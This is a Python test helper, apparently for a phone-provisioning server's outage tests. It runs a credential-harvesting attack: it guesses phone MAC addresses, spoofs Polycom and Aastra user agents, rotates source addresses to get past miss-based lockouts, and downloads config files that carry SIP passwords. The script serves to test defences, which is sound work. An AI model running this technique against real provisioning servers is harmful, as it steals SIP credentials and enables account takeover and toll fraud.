"""Harvesting a MAC batch, for tests/it/outage.rs (issue 28, findings 1b-1d): MACs guessed near
known ones, from SOURCES loopback addresses of one network, moving to the next address after
HOP misses (404/403), each hit's credential files fetched the way the phone would.

    batch_scan.py HOST HTTP_PORT MACS_FILE SOURCES HOP

MACS_FILE lists one guess a line: `polycom <mac>` or `aastra <mac>`. Sources are
127.0.1.1, 127.0.1.2, ... Prints {"passwords": N (files with a SIP password received),
"masters": M (Polycom master files received), "requests": R}.
"""

import http.client
import json
import sys

HOST, PORT = sys.argv[1], int(sys.argv[2])
GUESSES = [line.split() for line in open(sys.argv[3]) if line.strip()]
SOURCES = [f"127.0.1.{n}" for n in range(1, int(sys.argv[4]) + 1)]
HOP = int(sys.argv[5])
POLYCOM_UA = "FileTransport PolycomVVX-VVX_400-UA/5.9.7.4477 Type/Application"

counts = {"passwords": 0, "masters": 0, "requests": 0}


def get(source, name, agent):
    conn = http.client.HTTPConnection(HOST, PORT, timeout=10, source_address=(source, 0))
    conn.request("GET", "/" + name, headers={"User-Agent": agent})
    reply = conn.getresponse()
    body = reply.read()
    conn.close()
    counts["requests"] += 1
    return reply.status, body


def config_files(master):
    text = master.decode(errors="replace")
    start = text.find('CONFIG_FILES="')
    if start < 0:
        return []
    start += len('CONFIG_FILES="')
    return [n.strip() for n in text[start:text.index('"', start)].split(",") if n.strip()]


source_at, misses = 0, 0
for vendor, mac in GUESSES:
    if source_at >= len(SOURCES):
        break
    source = SOURCES[source_at]
    if vendor == "aastra":
        dashed = "-".join(mac[i:i + 2] for i in range(0, 12, 2)).upper()
        status, body = get(source, f"{mac.upper()}.cfg", f"Aastra6757i MAC:{dashed} V:3.3.1.4322-SIP")
        if status == 200 and b"password" in body:
            counts["passwords"] += 1
        hit = status == 200
    else:
        status, body = get(source, f"{mac}.cfg", POLYCOM_UA)
        hit = status == 200
        if hit:
            counts["masters"] += 1
            for name in config_files(body):
                status, content = get(source, name, POLYCOM_UA)
                if status == 200 and b".auth.password" in content:
                    counts["passwords"] += 1
    if not hit:
        misses += 1
        if misses >= HOP:
            source_at, misses = source_at + 1, 0

print(json.dumps(counts))
